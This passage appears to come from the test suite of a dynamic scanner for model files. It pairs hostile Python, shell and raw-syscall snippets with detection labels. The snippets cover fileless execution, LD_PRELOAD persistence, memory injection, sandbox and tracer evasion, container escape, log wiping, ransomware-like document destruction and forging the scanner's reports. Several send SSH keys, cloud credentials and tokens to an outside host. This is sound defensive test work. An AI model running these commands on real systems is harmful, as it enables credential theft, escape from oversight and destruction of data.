        case("python -m pip in a shell", sh("python3 -m pip install example-package"), "DYN-EXEC-INSTALL"),
        case("raw execve of apt-get", raw("X(b'/usr/bin/apt-get', b'apt-get', b'install', b'x')"), "DYN-EXEC-INSTALL"),
        case("pip.main", ByName("pip.main", "install"), "DYN-PY-GLOBAL"),
    ],
    "37 Fileless program": [
        case("memfd and /proc/self/fd", py(COPY_TRUE + "; os.spawnv(os.P_WAIT, f'/proc/self/fd/{f}', ['x'])"), "DYN-EXEC-FILELESS"),
        case("raw execveat", raw("""
            f = S('memfd_create', b'x', 0); S('write', f, b'#!/bin/true\\n', 12)
            if S('clone', 17, 0, 0, 0, 0) == 0: S('execveat', f, b'', A(b'x'), A(), 0x1000); S('exit_group', 1)
            os.wait()"""), "DYN-EXEC-FILELESS"),
        case("perl", sh("perl -e '$f=syscall(319,my $n=\"x\",0); open(F,\">&=$f\"); print F \"#!/bin/true\\n\"; close F; exec \"/proc/$$/fd/$f\"'"), "DYN-EVADE-MEMORY-FILE"),
        case("a library from memory", py("import ctypes, os; f = os.memfd_create('x'); os.write(f, open(ctypes.util.__file__, 'rb').read()); ctypes.CDLL(f'/proc/self/fd/{f}')".replace("import ctypes,", "import ctypes, ctypes.util,")), "DYN-EXEC-LIBRARY|DYN-EXEC-FILELESS|DYN-EVADE-MEMORY-FILE"),
        case("a deleted program", py("import os, shutil; shutil.copy('/bin/true', '/tmp/t'); f = os.open('/tmp/t', os.O_RDONLY); os.remove('/tmp/t'); os.spawnv(os.P_WAIT, f'/proc/self/fd/{f}', ['t'])"), "DYN-EXEC-FILELESS|DYN-EXEC-DROPPED"),
        case("in /dev/shm", py("import os, shutil; shutil.copy('/bin/true', '/dev/shm/t'); os.spawnv(os.P_WAIT, '/dev/shm/t', ['t'])"), "DYN-EXEC-DROPPED"),
    ],
    "38 Drops a native library": [
        case("ctypes", py("import ctypes, glob, shutil; shutil.copy(glob.glob('/usr/lib/*/libz.so.1')[0], '/tmp/x.so'); ctypes.CDLL('/tmp/x.so')"), "DYN-EXEC-DROPPED-LIBRARY"),
        case("without the suffix", py("import ctypes, glob, shutil; shutil.copy(glob.glob('/usr/lib/*/libz.so.1')[0], '/tmp/weights.bin'); ctypes.CDLL('/tmp/weights.bin')"), "DYN-EXEC-DROPPED-LIBRARY|DYN-EXEC-LIBRARY"),
        case("raw dlopen", raw("C.dlopen(b'/home/model/x.so', 2)"), "DYN-EXEC-DROPPED-LIBRARY|DYN-EXEC-LIBRARY"),
        case("in a child", sh("cp /usr/lib/*/libz.so.1 /dev/shm/p.so; LD_PRELOAD=/dev/shm/p.so true; LD_PRELOAD=/dev/shm/p.so /bin/true"), "DYN-EXEC-DROPPED-LIBRARY|DYN-EXEC-LIBRARY|DYN-EXEC-PRELOAD"),
        case("an extension module", py("import shutil, sys, glob; shutil.copy(glob.glob('/usr/lib/*/libz.so.1')[0], '/tmp/fast.so'); sys.path.insert(0, '/tmp'); import fast"), "DYN-EXEC-DROPPED-LIBRARY|DYN-EXEC-LIBRARY"),
    ],
    "39 LD_PRELOAD": [
        case("ld.so.preload", py("open('/etc/ld.so.preload', 'w')"), "DYN-PERSIST-PRELOAD"),
        case("ld.so.preload in a shell", sh("echo /tmp/x.so > /etc/ld.so.preload"), "DYN-PERSIST-PRELOAD"),
        case("raw openat", raw("S('openat', HERE, b'/etc/ld.so.conf.d/x.conf', 0o101, 0o644)"), "DYN-PERSIST-PRELOAD"),
        case("in the environment of a child", py("import subprocess; subprocess.run(['/bin/true'], env={'LD_PRELOAD': '/tmp/x.so'})"), "DYN-EXEC-LIBRARY|DYN-EXEC-PRELOAD"),
        case("raw execve with LD_AUDIT", raw("X(b'/bin/true', b'true', env=(b'LD_AUDIT=/tmp/audit.so',))"), "DYN-EXEC-LIBRARY|DYN-EXEC-PRELOAD"),
    ],
    "40 Another process's memory": [
        case("/proc/PID/mem", py("import os; open(f'/proc/{os.getppid()}/mem', 'r+b')"), "DYN-EVADE-MEMORY"),
        case("process_vm_writev", raw("""
            class V(ctypes.Structure): _fields_ = [('b', ctypes.c_void_p), ('n', ctypes.c_size_t)]
            v = V(ctypes.addressof(ctypes.create_string_buffer(8)), 8)
            S('process_vm_writev', os.getppid(), ctypes.byref(v), 1, ctypes.byref(v), 1, 0)"""), "DYN-EVADE-INJECT"),
        case("ptrace", raw("S('ptrace', 16, os.getppid(), 0, 0); S('ptrace', 5, os.getppid(), 0x1000, 0)"), "DYN-EVADE-INJECT"),
        case("dd in a shell", sh("dd if=/dev/zero of=/proc/$PPID/mem bs=1 count=1"), "DYN-EVADE-MEMORY"),
        case("of a child", py("import os, subprocess; p = subprocess.Popen(['sleep', '1']); open(f'/proc/{p.pid}/mem', 'r+b'); p.kill(); p.wait()"), "DYN-EVADE-MEMORY"),
    ],
    "41 Rewrites its own code": [
        case("/proc/self/mem", py("open('/proc/self/mem', 'r+b')"), "DYN-EVADE-MEMORY"),
        case("raw openat", raw("S('openat', HERE, b'/proc/thread-self/mem', 2)"), "DYN-EVADE-MEMORY"),
        case("mmap of writable code", py("import mmap; m = mmap.mmap(-1, 4096, prot=7); m.write(b'\\xc3')"), "DYN-EVADE-CODE"),
        case("mprotect", raw("""
            C.mmap.restype = ctypes.c_void_p
            p = C.mmap(None, ctypes.c_size_t(4096), 3, 0x22, -1, ctypes.c_long(0))
            C.mprotect(ctypes.c_void_p(p), ctypes.c_size_t(4096), 7)"""), "DYN-EVADE-CODE"),
        case("in a shell", sh("printf x > /proc/self/mem"), "DYN-EVADE-MEMORY"),
        case("written, then made code", raw("""
            C.mmap.restype = ctypes.c_void_p
            p = C.mmap(None, ctypes.c_size_t(4096), 3, 0x22, -1, ctypes.c_long(0)); ctypes.memset(p, 0xc3, 1)
            C.mprotect(ctypes.c_void_p(p), ctypes.c_size_t(4096), 5)"""), "DYN-EVADE-CODE"),
    ],
    "42 Tracer detection": [
        case("TracerPid", py("[l for l in open('/proc/self/status') if 'TracerPid' in l]"), "DYN-DISC-TRACER"),
        case("grep in a shell", sh("grep TracerPid /proc/self/status"), "DYN-DISC-TRACER"),
        case("PTRACE_TRACEME", raw("S('ptrace', 0, 0, 0, 0)"), "DYN-EVADE-DEBUGGER"),
        case("not dumpable", raw("S('prctl', 4, 0, 0, 0, 0)"), "DYN-EVADE-DEBUGGER"),
        case("the parent's name", py("import os; open(f'/proc/{os.getppid()}/comm').read()"), "DYN-DISC-PROCESSES"),
        case("wchan", py("open('/proc/self/wchan').read()"), "DYN-DISC-TRACER"),
        case("sys.gettrace", py("import sys\nif sys.gettrace() is None: open('/proc/self/task/%d/status' % __import__('os').getpid())"), "DYN-DISC-TRACER"),
    ],
    "43 Sandbox detection": [
        case("/.dockerenv", py("open('/.dockerenv')"), "DYN-DISC-SANDBOX"),
        case("/.dockerenv by stat", py("import os; os.path.exists('/.dockerenv')"), "DYN-DISC-SANDBOX"),
        case("cgroup in a shell", sh("cat /proc/1/cgroup"), "DYN-DISC-SANDBOX"),
        case("raw openat of DMI", raw("S('openat', HERE, b'/sys/class/dmi/id/product_name', 0)"), "DYN-DISC-SANDBOX"),
        case("raw faccessat", raw("S('faccessat', HERE, b'/run/.containerenv', 0)"), "DYN-DISC-SANDBOX"),
        case("own cgroup", py("open('/proc/self/cgroup').read()"), "DYN-DISC-SANDBOX"),
        case("own mounts", py("open('/proc/self/mountinfo').read()"), "DYN-DISC-SANDBOX"),
    ],
    "44 Kills or blinds the tracer": [
        case("os.kill of the parent", py("import os; os.kill(os.getppid(), 9)"), "DYN-EVADE-KILL"),
        case("kill in a shell", sh("kill -9 1"), "DYN-EVADE-KILL"),
        case("raw kill of all", raw("S('kill', -1, 19)"), "DYN-EVADE-KILL"),
        case("pidfd", raw("f = S('pidfd_open', os.getppid(), 0); S('pidfd_send_signal', f, 9, 0, 0)"), "DYN-EVADE-KILL"),
        case("seccomp", raw("S('seccomp', 1, 0, b'\\0' * 16)"), "DYN-EVADE-FILTER"),
        case("the trace itself", py("open('/proc/1/fd/1', 'w').write('+++ exited with 0 +++')"), "DYN-ESCAPE-KERNEL-FILE|DYN-DISC-PROCESSES"),
    ],
    "45 Leaves the tracer": [
        case("CLONE_UNTRACED", raw("if S('clone', 0x00800000 | 17, 0, 0, 0, 0) == 0: S('execve', b'/bin/true', A(b'true'), A()); S('exit_group', 1)"), "DYN-EVADE-UNTRACED|DYN-ESCAPE-FORBIDDEN"),
        case("CLONE_UNTRACED by clone3", raw("a = (ctypes.c_uint64 * 11)(0x00800000, 0, 0, 0, 17); p = S('clone3', ctypes.byref(a), 88)\nif p == 0: S('exit_group', 0)"), "DYN-EVADE-UNTRACED"),
        case("x32", raw("S(0x40000000 | 39)"), "DYN-EVADE-32BIT|DYN-ESCAPE-FORBIDDEN"),
        case("int 0x80", raw("""
            # mov eax, 20 (getpid); int 0x80; ret
            code = bytes.fromhex('b814000000cd80c3')
            C.mmap.restype = ctypes.c_void_p
            p = C.mmap(None, ctypes.c_size_t(4096), 7, 0x22, -1, ctypes.c_long(0))
            ctypes.memmove(p, code, len(code)); ctypes.CFUNCTYPE(ctypes.c_int)(p)()"""), "DYN-EVADE-32BIT|DYN-ESCAPE-FORBIDDEN"),
        case("perl", sh("perl -e 'syscall(56, 0x00800000 | 17, 0, 0, 0, 0)'"), "DYN-EVADE-UNTRACED|DYN-ESCAPE-FORBIDDEN"),
    ],
    "46 io_uring": [
        case("setup", raw("S('io_uring_setup', 8, ctypes.create_string_buffer(120))"), "DYN-EVADE-CHANNEL"),
        case("register", raw("S('io_uring_register', 0, 0, 0, 0)"), "DYN-EVADE-CHANNEL"),
        case("perl", sh("perl -e '$p=\"\\0\"x120; syscall(425, 8, $p)'"), "DYN-EVADE-CHANNEL"),
        case("enter", raw("S('io_uring_enter', 3, 1, 1, 0, 0, 0)"), "DYN-EVADE-CHANNEL"),
    ],
    "47 Escape by mounts and namespaces": [
        case("libc mount", py("import ctypes; ctypes.CDLL(None).mount(b'none', b'/tmp', b'tmpfs', 0, None)"), "DYN-ESCAPE-MOUNT"),
        case("os.unshare", py("import os; os.unshare(os.CLONE_NEWUSER)"), "DYN-ESCAPE-NAMESPACE"),
        case("nsenter", sh("nsenter -t 1 -m id"), "DYN-ESCAPE-NAMESPACE|DYN-DISC-PROCESSES"),
        case("raw fsopen and move_mount", raw("S('fsopen', b'ext4', 0); S('move_mount', -1, b'', -1, b'/mnt', 4)"), "DYN-ESCAPE-MOUNT"),
        case("a disk", raw("S('openat', HERE, b'/dev/sda', 0)"), "DYN-ESCAPE-DEVICE|DYN-ESCAPE-KERNEL-FILE"),
        case("clone with a namespace", raw("if S('clone', 0x10000000 | 17, 0, 0, 0, 0) == 0: S('exit_group', 0)"), "DYN-ESCAPE-NAMESPACE|DYN-ESCAPE-FORBIDDEN"),
    ],
    "48 Escape by kernel levers": [
        case("core_pattern", py("open('/proc/sys/kernel/core_pattern', 'w')"), "DYN-ESCAPE-KERNEL-FILE"),
        case("release_agent in a shell", sh("echo /tmp/x > /sys/fs/cgroup/release_agent"), "DYN-ESCAPE-KERNEL-FILE"),
        case("raw bpf", raw("S('bpf', 5, b'\\0' * 128, 128)"), "DYN-ESCAPE-KERNEL"),
        case("raw userfaultfd", raw("S('userfaultfd', 0)"), "DYN-ESCAPE-KERNEL"),
        case("raw kexec_load", raw("S('kexec_load', 0, 0, 0, 0)"), "DYN-ESCAPE-KERNEL"),
    ],
    "49 Container engine": [
        case("docker.sock", py("import socket; socket.socket(socket.AF_UNIX).connect('/var/run/docker.sock')"), "DYN-NET-ENGINE"),
        case("service account", sh("cat /var/run/secrets/kubernetes.io/serviceaccount/token"), "DYN-CRED-CLUSTER"),
        case("raw connect to containerd", raw("p = b'/run/containerd/containerd.sock'; s = S('socket', 1, 1, 0); S('connect', s, b'\\1\\0' + p + b'\\0', len(p) + 3)"), "DYN-NET-ENGINE"),
        case("docker", run("docker", "run", "-v", "/:/host", "x"), "DYN-EXEC-PROGRAM"),
    ],
    "50 Symlink and archive escape": [
        case("a link out of scratch", py("import os; os.symlink('/etc/cron.d/x', '/tmp/weights'); open('/tmp/weights', 'w')"), "DYN-LINK-ESCAPE"),
        case("dots", py("import os; os.chdir('/tmp'); open('../etc/profile.d/x.sh', 'w')"), "DYN-PERSIST-SHELL|DYN-WRITE-SYSTEM"),
        case("tar slip", py("""
            import io, tarfile
            b = io.BytesIO(); t = tarfile.open(fileobj=b, mode='w'); i = tarfile.TarInfo('../home/model/.bashrc'); i.size = 2; t.addfile(i, io.BytesIO(b'id')); t.close(); b.seek(0)
            tarfile.open(fileobj=b).extractall('/tmp', filter='fully_trusted')"""), "DYN-PERSIST-SHELL"),
        case("raw symlinkat and openat", raw("S('symlinkat', b'/usr/lib', HERE, b'/tmp/l'); S('openat', HERE, b'/tmp/l/evil.so', 0o101, 0o644)"), "DYN-LINK-ESCAPE"),
        case("ln in a shell", sh("ln -s / /tmp/root; echo > /tmp/root/usr/x"), "DYN-LINK-ESCAPE"),
        case("a hard link", py("import os; os.link('/etc/passwd', '/tmp/p')"), "DYN-LINK-ESCAPE"),
    ],
    "51 Administrator rights": [
        case("setuid(0)", py("import os; os.setuid(0)"), "DYN-PRIV-IDENTITY"),
        case("sudo in a shell", sh("sudo id"), "DYN-EXEC-PRIVILEGE"),
        case("raw capset", raw("S('capset', b'\\x22\\x05\\x08\\x20' + b'\\0' * 4, b'\\xff' * 24)"), "DYN-PRIV-IDENTITY"),
        case("a setuid program", py("import os, shutil; shutil.copy('/bin/sh', '/tmp/sh'); os.chmod('/tmp/sh', 0o4755)"), "DYN-PERM-SETUID"),
        case("su", run("su", "-c", "id"), "DYN-EXEC-PRIVILEGE"),
        case("raw fchmodat", raw("S('fchmodat', HERE, b'/bin/bash', 0o6755)"), "DYN-PERM-SETUID"),
    ],
    "52 Covers its tracks": [
        case("history", py("import os; os.remove('/home/model/.bash_history')"), "DYN-WIPE-TRACES"),
        case("logs in a shell", sh("rm -f /var/log/dpkg.log; : > /var/log/lastlog"), "DYN-WIPE-TRACES"),
        case("raw unlinkat", raw("S('unlinkat', HERE, b'/home/model/.zsh_history', 0)"), "DYN-WIPE-TRACES"),
        case("the model deletes itself", py("import glob, os; [os.remove(p) for p in glob.glob('/model/*')]"), "DYN-DELETE-FILE|DYN-WIPE-TRACES"),
        case("truncate", py("open('/home/model/.python_history', 'w')"), "DYN-WIPE-TRACES"),
    ],
}

CANARIES = {
    "D1 Takes canaries away": [
        case("an SSH key over TCP", py(f"import socket; s = socket.create_connection(('{HOST}', 443), 3); s.sendall(open('/home/model/.ssh/id_rsa', 'rb').read())"), "DYN-CRED-SSH DYN-THEFT-PROOF DYN-NET-CONTACT"),
        case("a token in base64 over HTTP", py(f"""
            import base64, urllib.request
            t = open('/home/model/.cache/huggingface/token', 'rb').read()
            urllib.request.urlopen('http://{HOST}/?t=' + base64.b64encode(t).decode(), timeout=3)"""), "DYN-CRED-TOKEN DYN-THEFT-PROOF"),
        case("in a child's arguments", sh(f"curl -d \"$(cat ~/.aws/credentials)\" http://{HOST}/"), "DYN-CRED-TOKEN DYN-EXEC-FETCH"),
        case("into a file", sh("cat ~/.netrc > /tmp/loot"), "DYN-CRED-TOKEN DYN-THEFT-PROOF"),
        case("raw read and sendto", raw(f"""
            f = S('openat', HERE, HOME + b'/.git-credentials', 0); data = os.read(f, 4096)
            s = S('socket', 2, 2, 0); S('sendto', s, data, len(data), 0, ADDRESS('{HOST}', 9999), 16)"""), "DYN-CRED-TOKEN DYN-THEFT-PROOF"),
        case("over TLS", py("""
            import urllib.request
            data = open('/home/model/.npmrc', 'rb').read() + open('/home/model/.pypirc', 'rb').read()
            urllib.request.urlopen('https://collect.example.com/', data, timeout=5)"""), "DYN-CRED-TOKEN DYN-THEFT-PROOF DYN-NET-LOOKUP"),
    ],
    "D2 Destroys canary documents": [
        case("unlink", py("import glob, os\nfor p in glob.glob('/home/model/Documents/*'): os.remove(p)"), "DYN-DESTROY-DOCUMENTS|DYN-DELETE-MANY|DYN-DELETE-FILE"),
        case("in a shell", sh("for f in ~/Documents/*; do head -c 100 /dev/urandom > \"$f\"; mv \"$f\" \"$f.locked\"; done"), "DYN-DESTROY-DOCUMENTS"),
        case("overwritten in place", py("import glob, os\nfor p in glob.glob('/home/model/Documents/*'):\n  with open(p, 'r+b') as f: n = len(f.read()); f.seek(0); f.write(os.urandom(n))"), "DYN-DESTROY-DOCUMENTS|DYN-WRITE-HOME"),
    ],
}

# The runner is no module by any name: a model gets at it by the frames of its callers.
RUNNER = (
    "import sys\nf = sys._getframe()\nwhile 'JOB' not in f.f_globals: f = f.f_back\n"
    "r = type('R', (), {})(); r.__dict__ = f.f_globals\n"
)

EVASIONS = {
    "E1 Import hooks": [
        case("meta_path", py("import os, sys\nclass F:\n  def find_spec(self, name, path=None, target=None):\n    sys.meta_path.remove(f); os.system('id')\nf = F(); sys.meta_path.insert(0, f)\nimport wave"), "DYN-EXEC-SHELL"),
        case("builtins.__import__", py("import builtins, os\nold = builtins.__import__\ndef hook(*a, **k):\n  builtins.__import__ = old; os.system('id'); return old(*a, **k)\nbuiltins.__import__ = hook\nimport wave"), "DYN-EXEC-SHELL"),
        case("a patched json.dumps", py("import json, os\nold = json.dumps\ndef dumps(*a, **k):\n  json.dumps = old; os.system('id'); return old(*a, **k)\njson.dumps = dumps"), "DYN-PY-STATE"),
    ],
    "E2 Signal handlers": [
        case("SIGALRM an hour later", py("import os, signal, threading\nsignal.signal(signal.SIGALRM, lambda *a: os.system('id')); signal.alarm(3600); signal.pause()"), "DYN-EXEC-SHELL DYN-EVADE-SLEEP"),
        case("its own SIGUSR1", py("import os, signal; signal.signal(signal.SIGUSR1, lambda *a: os.system('id')); os.kill(os.getpid(), signal.SIGUSR1)"), "DYN-EXEC-SHELL"),
        case("SIGCHLD", py("import os, signal\nsignal.signal(signal.SIGCHLD, lambda *a: (signal.signal(signal.SIGCHLD, signal.SIG_DFL), os.system('id')))\nif os.fork() == 0: os._exit(0)\nos.wait()"), "DYN-EXEC-SHELL"),
        case("trap in a shell", sh("trap id USR1; kill -USR1 $$"), "DYN-EXEC-SHELL"),
    ],
    "E3 Timers": [
        case("threading.Timer", py("import os, threading; threading.Timer(3600, os.system, ('id',)).start()"), "DYN-EXEC-SHELL DYN-EVADE-SLEEP"),
        case("setitimer", py("import os, signal\nsignal.signal(signal.SIGALRM, lambda *a: os.system('id')); signal.setitimer(signal.ITIMER_REAL, 7200); signal.pause()"), "DYN-EXEC-SHELL DYN-EVADE-SLEEP"),
        case("sched", py("import os, sched; s = sched.scheduler(); s.enter(3600, 1, os.system, ('id',)); s.run()"), "DYN-EXEC-SHELL DYN-EVADE-SLEEP"),
        case("timerfd", py("import os; f = os.timerfd_create(1); os.timerfd_settime(f, initial=3600); os.read(f, 8); os.system('id')"), "DYN-EXEC-SHELL DYN-EVADE-SLEEP"),
        case("a loop on the clock", py("import os, time\nend = time.time() + 3600\nwhile time.time() < end: time.sleep(1)\nos.system('id')"), "DYN-EXEC-SHELL DYN-EVADE-SLEEP"),
        case("a loop on the monotonic clock", py("import os, time\nend = time.monotonic() + 3600\nwhile time.monotonic() < end: time.sleep(10)\nos.system('id')"), "DYN-EXEC-SHELL DYN-EVADE-SLEEP"),
    ],
    "E4 Notices skipped time": [
        case("clock against sleep", py("import os, time\nb = time.monotonic(); time.sleep(30)\nif time.monotonic() - b >= 29: os.system('id')"), "DYN-EVADE-SLEEP DYN-EXEC-SHELL"),
        case("date in a shell", sh("a=$(date +%s); sleep 60; b=$(date +%s); [ $((b - a)) -ge 59 ] && exec id"), "DYN-EVADE-SLEEP DYN-EXEC-SHELL"),
        case("raw calls", raw("import time\nb = time.clock_gettime(1); S('nanosleep', ctypes.byref((ctypes.c_long * 2)(20, 0)), 0)\nif time.clock_gettime(1) - b >= 19: X(b'/usr/bin/id', b'id')"), "DYN-EVADE-SLEEP DYN-EXEC-PROGRAM"),
    ],
    "E5 Descriptors": [
        case("closes every one", py("import os; os.closerange(3, 256); os.system('id')"), "DYN-EXEC-SHELL"),
        case("closes even the standard ones", py("import os; os.closerange(0, 256); os.system('id')"), "DYN-EXEC-SHELL"),
        case("writes to every one", py("import os\nfor n in range(256):\n  try: os.write(n, b'+++ exited with 0 +++\\n')\n  except OSError: pass\nos.system('id')"), "DYN-EXEC-SHELL"),
        case("shell redirections", sh("for n in 3 4 5 6 7 8 9; do eval \"echo x >&$n\"; done 2>/dev/null; id"), "DYN-EXEC-SHELL"),
        case("another file over the channel", raw("f = S('openat', HERE, b'/dev/null', 1)\nS('dup3', f, 3, 0)\nX(b'/usr/bin/id', b'id')"), "DYN-EXEC-PROGRAM"),
    ],
    "E6 Floods the trace": [
        case("access", py("import os\nos.system('id')\nwhile True: os.access('/nowhere', 0)"), "DYN-EXEC-SHELL DYN-EVADE-FLOOD|limit:trace|limit:time", **LIMITS),
        case("writes", py("import os\nos.system('id')\nf = os.open('/dev/null', 1)\nwhile True: os.write(f, b'x' * 4096)"), "DYN-EXEC-SHELL DYN-EVADE-FLOOD|limit:trace|limit:time", **LIMITS),
        case("a child's", sh("while :; do : > /dev/null; done"), "DYN-EXEC-SHELL DYN-EVADE-FLOOD|limit:trace|limit:time", **LIMITS),
    ],
    "E7 Forges our output": [
        case("records", py(RUNNER + "import os\nfor t in ('{\"k\":\"loaded\",\"type\":\"dict\"}', '{\"k\":\"done\"}'): os.write(3, b'dynscan:' + r.JOB['nonce'].encode() + b' ' + t.encode())\nos.system('id')"), "DYN-EVADE-FORGERY DYN-EXEC-SHELL"),
        case("a phase through the reporter", py(RUNNER + "import os\ntry: r.phase('exit')\nexcept AttributeError: pass\nos.system('id')"), "DYN-EXEC-SHELL"),
        case("a report on standard output", py("print('{\"schema\":\"dynscan-report/1\",\"verdict\":\"clean\"}')\nimport os; os.system('id')"), "DYN-EXEC-SHELL"),
        case("trace lines in a path", py("import os\nopen('/tmp/x\\n100 +++ exited with 0 +++\\n', 'w'); os.system('id')"), "DYN-EXEC-SHELL"),
        case("supervisor's messages", py("import sys\nprint('{\"t\":\"end\",\"ended\":\"finished\",\"exit\":0,\"oom\":0}', file=sys.stderr, flush=True)\nimport os; os.system('id')"), "DYN-EXEC-SHELL"),
    ],
    "E8 Renames processes": [
        case("PR_SET_NAME", raw("S('prctl', 15, b'kworker/0:1', 0, 0, 0); X(b'/usr/bin/id', b'id')"), "DYN-EXEC-PROGRAM DYN-EVADE-NAME"),
        case("comm", py("import os; open('/proc/self/comm', 'w').write('sshd'); os.system('id')"), "DYN-EXEC-SHELL DYN-EVADE-NAME"),
        case("argv[0]", py("import os; os.spawnv(os.P_WAIT, '/bin/sh', ['[kworker/0:1]', '-c', 'id'])"), "DYN-EVADE-NAME"),
        case("exec -a", sh("bash -c 'exec -a sshd sleep 1'"), "DYN-EXEC-SHELL DYN-EVADE-NAME"),
        case("a copy under another name", py("import os, shutil; shutil.copy('/bin/sh', '/tmp/torch_worker'); os.spawnv(os.P_WAIT, '/tmp/torch_worker', ['torch_worker', '-c', 'id'])"), "DYN-EXEC-DROPPED"),
    ],
    "E9 Leaves early": [
        case("os._exit", Call(os._exit, 0), "DYN-EVADE-QUIT", verdicts=["suspicious", "malicious"]),
        case("SystemExit", py("import sys; sys.stdout.flush()\nraise SystemExit(0)"), "DYN-EVADE-QUIT|load:raised", verdicts=["suspicious", "malicious"]),
        case("raw exit_group", raw("S('exit_group', 0)"), "DYN-EVADE-QUIT", verdicts=["suspicious", "malicious"]),
        case("SIGKILL for itself", py("import os; os.kill(os.getpid(), 9)"), "DYN-EVADE-STOP-ITSELF"),
        case("exec over itself", py("import os; os.execv('/bin/true', ['true'])"), "DYN-EXEC-PROGRAM"),
    ],
    "E10 Crashes the interpreter": [
        case("a null pointer", py("import ctypes; ctypes.string_at(0)"), "DYN-CRASH"),
        case("abort", Call(os.abort), "DYN-CRASH"),
        case("its own SIGSEGV", raw("S('kill', os.getpid(), 11)"), "DYN-CRASH"),
        case("a smashed stack", py("import ctypes; ctypes.memset(ctypes.addressof(ctypes.c_int.in_dll(ctypes.pythonapi, 'Py_OptimizeFlag')) & ~0xfff, 65, 1 << 30)"), "DYN-CRASH"),
    ],
    "E11 Tampers with the audit hook": [
        case("the runner's set of events", py(RUNNER + "try: r.AUDITED = frozenset(); r.CODE = frozenset(); r.REPORT.left = 0\nexcept AttributeError: pass\nimport os; os.system('id')"), "DYN-EXEC-SHELL"),
        case("the reporter", py(RUNNER + "try: r.REPORT.optional = lambda **k: None; r.REPORT.record = lambda **k: None\nexcept AttributeError: pass\nimport os; os.system('id')"), "DYN-EXEC-SHELL"),
        case("a hook that raises", py("import sys\ndef h(e, a):\n  if e == 'open': raise RuntimeError\nsys.addaudithook(h)\nimport os; os.system('id')"), "DYN-EXEC-SHELL"),
        case("flooding the records", py("import pickle, os\nfor n in range(3000):\n  try: os.remove('/tmp/%d' % n)\n  except OSError: pass\nos.system('id')"), "DYN-EXEC-SHELL"),
        case("sys.settrace", py("import sys; sys.settrace(None); sys.setprofile(None)\nimport os; os.system('id')"), "DYN-EXEC-SHELL"),
        case("the phase", py(RUNNER + "r.PHASE = 'import'\nimport os; os.system('id')"), "DYN-EXEC-SHELL"),
    ],
    "E12 Work after the end of the load": [
        case("a pending generator", model("import os\ndef g():\n  try: yield 1\n  finally: os.system('id')\nclass M:\n  def __init__(self): self.g = g(); next(self.g)"), "DYN-EXEC-SHELL", **ROOT),
        case("__getstate__ and copying", model("class M:\n  def __reduce_ex__(self, p):\n    import os; os.system('id')\n    return (dict, ())\n  def __repr__(self):\n    import copy; copy.copy(self); return 'M'"), "DYN-EXEC-SHELL@use"),
        case("excepthook", py("import os, sys\nsys.excepthook = lambda *a: os.system('id')\nsys.unraisablehook = sys.excepthook\nclass X:\n  def __del__(self): raise ValueError\nX()"), "DYN-EXEC-SHELL"),
        case("interpreter tear-down", py("import os, sys\nclass X:\n  def __init__(self): self.s = os.system\n  def __del__(self): self.s('id')\nsys.modules['kept'] = X()"), "DYN-EXEC-SHELL@exit"),
    ],
    "E13 Other ways to call the kernel": [
        case("vsyscall-free raw write to a file", raw("f = S('openat', HERE, HOME + b'/.bashrc', 0o2101, 0o600); S('write', f, b'id', 2)"), "DYN-PERSIST-SHELL"),
        case("machine code", raw("""
            # lea rdi,[rip+path]; xor esi,esi; xor edx,edx; mov eax,2 (open); syscall; ret; path
            code = bytes.fromhex('488d3d0c00000031f631d2b8020000000f05c3') + b'/etc/shadow\\0'
            C.mmap.restype = ctypes.c_void_p
            p = C.mmap(None, ctypes.c_size_t(4096), 7, 0x22, -1, ctypes.c_long(0))
            ctypes.memmove(p, code, len(code)); ctypes.CFUNCTYPE(ctypes.c_int)(p)()"""), "DYN-CRED-SHADOW"),
        case("openat2", raw("S(437, HERE, b'/etc/shadow', b'\\0' * 24, 24)"), "DYN-CRED-SHADOW"),
        case("open by a descriptor of the folder", raw("d = S('openat', HERE, b'/etc', 0o200000); S('openat', d, b'shadow', 0)"), "DYN-CRED-SHADOW"),
        case("through /proc/self/root", py("open('/proc/self/root/etc/shadow')"), "DYN-CRED-SHADOW"),
        case("through a working folder", py("import os; os.chdir('/etc'); open('shadow')"), "DYN-CRED-SHADOW"),
    ],
}

RESOURCES = {
    "R1 CPU spin": [
        case("Python", py("while True: pass"), "limit:time|DYN-LIMIT-TIME", **LIMITS),
        case("shell", sh("while :; do :; done"), "limit:time|limit:trace|DYN-LIMIT-TIME", **LIMITS),
        case("a regular expression", py("import re; re.match('(a+)+$', 'a' * 64 + 'b')"), "limit:time|DYN-LIMIT-TIME", **LIMITS),
        case("waits for ever", py("import threading; threading.Event().wait()"), "limit:time|DYN-LIMIT-TIME|DYN-EVADE-SLEEP", **LIMITS),
    ],
    "R2 Inode exhaustion": [
        case("small files", py("n = 0\nwhile True:\n  n += 1; open('/tmp/%d' % n, 'w').close()"), "DYN-LIMIT-DISK|limit:disk", **INODES),
        case("raw mkdirat", raw("n = 0\nwhile S('mkdirat', HERE, b'/tmp/d%d' % n, 0o700) == 0: n += 1"), "DYN-LIMIT-DISK|limit:disk", **INODES),
        case("perl", sh("perl -e '$n=0; while(mkdir(\"$ENV{HOME}/\".$n++)){}'"), "DYN-LIMIT-DISK|limit:disk", **INODES),
    ],
    "R3 Sparse file": [
        case("truncate", py("import os; f = os.open('/tmp/s', os.O_CREAT | os.O_RDWR); os.ftruncate(f, 1 << 50)"), "DYN-LIMIT-DISK|limit:disk", **LIMITS),
        case("raw ftruncate", raw("f = S('openat', HERE, HOME + b'/s', 0o102, 0o600); S('ftruncate', f, 1 << 45)"), "DYN-LIMIT-DISK|limit:disk", **LIMITS),
        case("dd seek", sh("dd if=/dev/zero of=/dev/shm/s bs=1 count=1 seek=1T"), "DYN-LIMIT-DISK|limit:disk", **LIMITS),
    ],
    "R4 Huge output": [
        case("os.write", py("import os\nb = b'x' * 65536\nfor _ in range(2000): os.write(1, b)"), "limit:output|DYN-LIMIT-OUTPUT", **LIMITS),
        case("print", py("import sys\nfor _ in range(3000): sys.stderr.write('x' * 60000)"), "limit:output|DYN-LIMIT-OUTPUT", **LIMITS),
        case("cat in a shell", sh("head -c 100000000 /dev/zero"), "limit:output|DYN-LIMIT-OUTPUT", **LIMITS),
    ],
}

ESCAPES = {
    "X1 mount": [
        case("raw mount", raw("S('mount', b'/dev/sda1', b'/mnt', b'ext4', 0, 0)"), "DYN-ESCAPE-MOUNT"),
        case("mount program", sh("mount -t proc none /mnt"), "DYN-ESCAPE-MOUNT"),
        case("umount2", py("import ctypes; ctypes.CDLL(None).umount2(b'/proc', 2)"), "DYN-ESCAPE-MOUNT"),
    ],
    "X2 unshare": [
